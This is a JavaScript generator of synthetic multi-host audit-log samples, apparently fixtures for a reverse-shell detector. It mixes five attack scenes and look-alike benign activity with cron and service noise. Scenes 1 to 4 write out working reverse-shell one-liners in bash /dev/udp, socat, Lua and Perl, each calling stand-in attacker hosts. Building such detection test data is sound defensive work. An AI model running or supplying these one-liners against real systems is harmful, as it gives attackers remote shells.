// The story of the large sample: half an hour of a small shop, as one collector wrote it down. Four hosts send their audit records to
// it (node=NAME in front of each), so their events lie between each other. Five scenes raise the alert, seven look alike and do not,
// the rest is what such hosts do all day. samples/README.md tells the scenes in words.
//
// Each scene is a function that says what a process did and when; times, process ids and the noise come of a fixed seed, so that the
// same files are made each time.

const host = (name, id, arch = "x86_64", serial) => ({ name, id, arch, serial });
export const HOSTS = {
  web: host("web-01", "5d7c1f0ae2b84c6d9a3e77b1c0428f61", "x86_64", 41877),
  db: host("db-01", "0b9e64d27fca4b1e8d5523f6a7109cce", "x86_64", 20914),
  ci: host("ci-07", "e4a2c8807d1f4f0fb6cd90135ab7e2d9", "x86_64", 88120),
  edge: host("edge-01", "91f3b6527ae04d7cbd1c4a0e6f2588b4", "aarch64", 6033),
};
const { web, db, ci, edge } = HOSTS;

const START = Date.parse("2026-11-24T02:30:00.000Z");
const WWW = { uid: 33 }, POSTGRES = { uid: 114 }, BUILDER = { uid: 998 }, TELEMETRY = { uid: 999 };
const MARA = { uid: 1000, auid: 1000, tty: "pts0", ses: 3 }, NSCD = "/var/run/nscd/socket";

/** All events of the story in the order of their time, with serials as each host counted them. */
export function story() {
  const random = seeded(20261124), events = [];
  scenes(events, random);
  background(events, random);
  // Sorting is stable: what a process does within one millisecond stays in its order.
  events.sort((a, b) => a.time - b.time);
  const serials = new Map(Object.values(HOSTS).map((one) => [one.name, one.serial]));
  for (const event of events) {
    const serial = serials.get(event.host.name) + 1;
    serials.set(event.host.name, serial);
    event.serial = serial;
    event.at = new Date(event.time).toISOString();
  }
  return events;
}

/** A process whose calls are told one after the other, each some milliseconds after the last. */
function tell(events, on, clock, identity) {
  let time = clock, self = identity;
  const push = (more, after) => {
    time += after;
    events.push({ host: on, time, pid: self.pid, ppid: self.ppid, comm: self.comm, exe: self.exe, title: self.title, user: self.user, ...more });
  };
  const process = {
    run(exe, argv, after = 3) {
      self = { ...self, exe, comm: self.asCalled ?? argv[0].replace(/^-?.*\//, "").slice(0, 15), title: argv };
      push({ execve: argv, cwd: self.cwd ?? "/", exit: 0 }, after);
      return process;
    },
    socket(a0, a1, a2, fd = 3, after = 5) {
      push({ socket: [a0, a1, a2], exit: fd }, after);
      return process;
    },
    connect(to, { fd = 3, exit = 0, after = 0 } = {}) {
      push({ connect: fd, to, exit }, after);
      return process;
    },
    /** The name service cache that glibc asks first, and that is not there. */
    nscd() {
      for (let n = 0; n < 2; n += 1) process.socket("1", "80801", "0").connect(NSCD, { exit: -2 });
      return process;
    },
    fork(pid, after = 4) {
      return tell(events, on, time + after, { ...self, pid, ppid: self.pid });
    },
    wait(milliseconds) {
      time += milliseconds;
      return process;
    },
  };
  return process;
}

function scenes(events) {
  const at = (minutes, seconds, ms = 0) => START + minutes * 60_000 + seconds * 1000 + ms;
  const begin = (on, time, pid, ppid, user, cwd) => tell(events, on, time, { pid, ppid, comm: "?", exe: "?", user, cwd });

  // 1. The attack on the web server: an upload became a PHP page, and the page a shell over UDP.
  const shell = begin(web, at(3, 26, 784), 4336, 1187, WWW, "/var/www/shop/uploads").run("/usr/bin/dash", ["sh", "-c", "bash -c 'bash -i >& /dev/udp/203.0.113.10/4444 0>&1'"], 0)
    .fork(4337, 30).run("/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/udp/203.0.113.10/4444 0>&1"])
    .fork(4338, 66).socket("2", "2", "11").connect(["203.0.113.10", 4444], { after: 4 }).run("/usr/bin/bash", ["bash", "-i"], 20).nscd();
  [["/usr/bin/id", ["id"]], ["/usr/bin/uname", ["uname", "-a"]], ["/usr/bin/cat", ["cat", "/etc/passwd"]], ["/usr/bin/ls", ["ls", "-la", "/var/www/shop"]], ["/usr/bin/whoami", ["whoami"]]]
    .forEach(([exe, argv], n) => shell.wait(2900).fork(4341 + n).run(exe, argv));

  // 2. The attack on the database: COPY ... FROM PROGRAM starts socat, which joins a shell to a UDP socket on port 53.
  begin(db, at(8, 38, 441), 4548, 902, POSTGRES, "/var/lib/postgresql/15/main").run("/usr/bin/dash", ["sh", "-c", "socat EXEC:'/bin/sh -i' UDP:198.51.100.23:53"], 0)
    .fork(4550, 44).run("/usr/bin/socat", ["socat", "EXEC:/bin/sh -i", "UDP:198.51.100.23:53"]).socket("2", "2", "11", 6, 7).connect(["198.51.100.23", 53], { fd: 6 })
    .fork(4551, 2).run("/usr/bin/dash", ["/bin/sh", "-i"]).wait(4000).fork(4552).run("/usr/bin/id", ["id"]).wait(3100).fork(4553).run("/usr/bin/psql", ["psql", "-l"]);

  // 3. The attack on the gateway, an aarch64 machine whose system calls have other numbers: Lua runs a command and sends its output.
  begin(edge, at(17, 41, 622), 4614, 731, TELEMETRY, "/opt/gateway")
    .run("/usr/bin/lua5.4", ["lua5.4", "-e", 'local u=require("socket").udp();u:setpeername("203.0.113.10",4444);local f=io.popen("id");u:send(f:read("*a"))'])
    .socket("2", "2", "11", 3, 3).connect(["203.0.113.10", 4444]).fork(4615, 5).run("/usr/bin/dash", ["sh", "-c", "id"]).fork(4616, 9).run("/usr/bin/id", ["id"]);

  // 4. The attack that version 5 does not see: Perl sets close-on-exec on its sockets, and 80002 is not 2.
  begin(ci, at(21, 30, 727), 6382, 6377, BUILDER, "/srv/build/4711")
    .run("/usr/bin/perl", ["perl", "-MIO::Socket::INET", "-e", '$s=IO::Socket::INET->new(PeerAddr=>"203.0.113.10:4444",Proto=>"udp");open(STDIN,">&",$s);open(STDOUT,">&",$s);exec("/bin/sh -i");'])
    .socket("2", "80002", "11", 3, 19).connect(["203.0.113.10", 4444]).run("/usr/bin/dash", ["/bin/sh", "-i"], 1).wait(1200).fork(6383).run("/usr/bin/id", ["id"]);

  // 5. Ordinary, and told of all the same: a script counts its jobs in StatsD through nc.
  begin(edge, at(6, 46, 657), 4738, 4737, TELEMETRY, "/opt/gateway").run("/usr/bin/bash", ["bash", "-c", 'echo "jobs.ok:1|c" | nc -u -w1 10.20.0.21 8125'])
    .fork(4740).run("/usr/bin/nc.openbsd", ["nc", "-u", "-w1", "10.20.0.21", "8125"]).nscd().socket("2", "802", "11").connect(["10.20.0.21", 8125]);

  // 6. Long-lived: one bash sends a heartbeat each minute for sixteen minutes. One alert, not sixteen.
  const heartbeat = begin(db, at(10, 0, 112), 5120, 1, TELEMETRY, "/opt/backup").run("/usr/bin/bash", ["bash", "/opt/backup/heartbeat"], 0);
  for (let n = 0; n < 16; n += 1) heartbeat.socket("2", "2", "11").connect(["10.20.0.9", 8125], { after: 1 }).wait(59_988);

  // Seven that look alike and raise nothing.
  begin(web, at(4, 45, 463), 4706, 4705, WWW, "/var/www/shop").run("/usr/bin/bash", ["bash", "-c", "getent hosts example.com; true"]).fork(4707)
    .run("/usr/bin/getent", ["getent", "hosts", "example.com"]).nscd().socket("2", "80802", "0").connect(["10.20.0.53", 53]);
  begin(db, at(5, 46, 564), 4728, 4727, {}, "/root").run("/usr/bin/bash", ["bash", "-c", 'echo "<13>backup done" > /dev/udp/127.0.0.1/514']).socket("2", "2", "11", 3, 70).connect(["127.0.0.1", 514]);
  begin(ci, at(9, 45, 482), 4712, 4711, BUILDER, "/srv/build/4710").run("/usr/bin/nc.openbsd", ["nc", "-w1", "203.0.113.80", "80"]).nscd().socket("2", "801", "6").connect(["203.0.113.80", 80], { exit: -115 });
  begin(ci, at(12, 48, 234), 4776, 4775, BUILDER, "/srv/build/4710").run("/usr/bin/node", ["node", "metrics.js"]).socket("2", "80802", "0", 18, 140).connect(["10.20.0.21", 8125], { fd: 18 });
  begin(web, at(14, 48, 45), 4761, 4760, WWW, "/var/www/shop").run("/usr/bin/php8.2", ["php", "-r", 'gethostbyname("example.com");']).nscd().socket("2", "80802", "0", 3, 20).connect(["10.20.0.53", 53]);
  begin(ci, at(15, 44, 997), 4679, 4678, BUILDER, "/srv/build/4711").run("/usr/bin/python3.11", ["python3", "-c", 'import socket; socket.getaddrinfo("example.com", 443)']).nscd()
    .socket("2", "80802", "0").connect(["10.20.0.53", 53]).socket("2", "80001", "0").connect(["203.0.113.80", 443], { after: 40 });
  begin(edge, at(19, 12, 149), 4766, 4765, MARA, "/home/mara").run("/usr/bin/inetutils-telnet", ["telnet", "203.0.113.80", "23"]).socket("2", "1", "0").connect(["203.0.113.80", 23], { exit: -115 });
}

/** What hosts do all day: cron, logins, services, look-ups, health checks. */
function background(events, random) {
  const pick = (list) => list[Math.floor(random() * list.length)], between = (low, high) => low + Math.floor(random() * (high - low));
  let pid = 9200;
  const next = () => (pid += between(1, 4));
  const note = (on, time, message, body, names) => events.push({ host: on, time, message, body, names });
  const service = (on, time, unit, message) =>
    note(on, time, message, `pid=1 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='unit=${unit} comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? terminal=? res=success'`, `UID="root" AUID="unset"`);
  const pam = (on, time, message, id, op, more = {}) => {
    const { acct = "root", exe = "/usr/sbin/cron", address = "?", terminal = "cron", auid = 4294967295, ses = 4294967295 } = more;
    note(on, time, message, `pid=${id} uid=0 auid=${auid} ses=${ses} subj=unconfined msg='op=${op} acct="${acct}" exe="${exe}" hostname=${address} addr=${address} terminal=${terminal} res=success'`,
      `UID="root" AUID="${auid === 0 ? "root" : auid === 1000 ? "mara" : "unset"}"`);
  };

  // cron on every host, each five minutes
  Object.values(HOSTS).forEach((on, index) => {
    for (let minute = 0; minute < 30; minute += 5) {
      const id = next(), session = 40 + index * 20 + minute, time = START + minute * 60_000 + 1000 + between(0, 900), root = { uid: 0, auid: 0, ses: session };
      const job = pick([["/usr/lib/sysstat/sa1", "1", "1"], ["/usr/bin/find", "/tmp", "-mtime", "+2", "-delete"], ["/usr/sbin/logrotate", "/etc/logrotate.conf"]]);
      pam(on, time, "USER_ACCT", id, "PAM:accounting grantors=pam_permit");
      pam(on, time + 1, "CRED_ACQ", id, "PAM:setcred grantors=pam_permit");
      note(on, time + 2, "LOGIN", `pid=${id} uid=0 subj=unconfined old-auid=4294967295 auid=0 tty=(none) old-ses=4294967295 ses=${session} res=1`, `UID="root" OLD-AUID="unset" AUID="root"`);
      pam(on, time + 3, "USER_START", id, "PAM:session_open grantors=pam_loginuid,pam_env,pam_limits", { auid: 0, ses: session });
      tell(events, on, time + 9, { pid: next(), ppid: id, comm: "cron", exe: "/usr/sbin/cron", user: root, cwd: "/root" }).run("/usr/bin/dash", ["/bin/sh", "-c", job.join(" ")]).fork(next()).run(job[0], job);
      pam(on, time + 180, "CRED_DISP", id, "PAM:setcred grantors=pam_permit", { auid: 0, ses: session });
      pam(on, time + 181, "USER_END", id, "PAM:session_close grantors=pam_loginuid,pam_env,pam_limits", { auid: 0, ses: session });
    }
  });

  // services that come and go
  for (let n = 0; n < 14; n += 1) {
    const on = pick(Object.values(HOSTS)), unit = pick(["sysstat-collect", "apt-daily", "systemd-tmpfiles-clean", "fwupd-refresh", "phpsessionclean"]), time = START + between(0, 1_780_000);
    service(on, time, unit, "SERVICE_START");
    service(on, time + between(200, 4000), unit, "SERVICE_STOP");
  }

  // look-ups of the resolver, clients of the web, logger to the local socket
  for (let n = 0; n < 34; n += 1) {
    const on = pick(Object.values(HOSTS)), time = START + between(0, 1_790_000), id = next();
    const start = (user, cwd) => tell(events, on, time, { pid: id, ppid: pick([1, 812, 1187]), comm: "?", exe: "?", user, cwd });
    pick([
      () => start({ uid: 100 }).run("/usr/lib/systemd/systemd-resolved", ["/usr/lib/systemd/systemd-resolved"]).socket("2", "80802", "0", 21, 90).connect(["10.20.0.53", 53], { fd: 21 }),
      () => start({ uid: 998 }, "/srv/build").run("/usr/bin/curl", ["curl", "-sf", "https://registry.example.com/health"]).socket("2", "80801", "6", 5, 12).connect(["203.0.113.80", 443], { fd: 5, exit: -115 }),
      () => start({ uid: 0 }).run("/usr/bin/logger", ["logger", "-t", "backup", "snapshot finished"]).socket("1", "80002", "0").connect("/dev/log"),
      () => start({ uid: 0 }).run("/usr/lib/nagios/plugins/check_load", ["check_load", "-w", "8,6,4", "-c", "16,12,8"]),
      () => start({ uid: 33 }, "/var/www/shop").run("/usr/bin/php8.2", ["php", "artisan", "schedule:run"]).socket("2", "80801", "6", 7, 60).connect(["10.20.0.5", 5432], { fd: 7 }),
      () => start({ uid: 999 }).run("/usr/bin/python3.11", ["python3", "/opt/telemetry/exporter.py"]).socket("2", "80001", "0", 4, 80).connect(["127.0.0.1", 9100], { fd: 4 }),
    ])();
  }

  // an engineer at work on the build host
  const session = { uid: 1000, auid: 1000, tty: "pts0", ses: 7 }, sshd = { exe: "/usr/sbin/sshd", address: "192.0.2.14", terminal: "ssh", acct: "mara" };
  let time = START + 11 * 60_000;
  pam(ci, time, "USER_ACCT", 7001, "PAM:accounting grantors=pam_permit", sshd);
  note(ci, time + 2, "LOGIN", "pid=7001 uid=0 subj=unconfined old-auid=4294967295 auid=1000 tty=(none) old-ses=4294967295 ses=7 res=1", `UID="root" OLD-AUID="unset" AUID="mara"`);
  pam(ci, time + 9, "USER_LOGIN", 7001, "login", { ...sshd, auid: 1000, ses: 7, terminal: "/dev/pts/0" });
  const login = tell(events, ci, time + 20, { pid: 7004, ppid: 7001, comm: "sshd", exe: "/usr/sbin/sshd", user: session, cwd: "/home/mara" }).run("/usr/bin/bash", ["-bash"]);
  for (const argv of [["ls", "-la"], ["journalctl", "-u", "builder", "-n", "50"], ["git", "log", "--oneline"], ["tail", "-n", "100", "/srv/build/4711/log"], ["ps", "aux"], ["ss", "-tunlp"], ["less", "README.md"]]) {
    login.wait(between(6_000, 70_000)).fork(next()).run(`/usr/bin/${argv[0]}`, argv);
  }
}

/** mulberry32: small, and the same numbers on every machine. */
function seeded(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
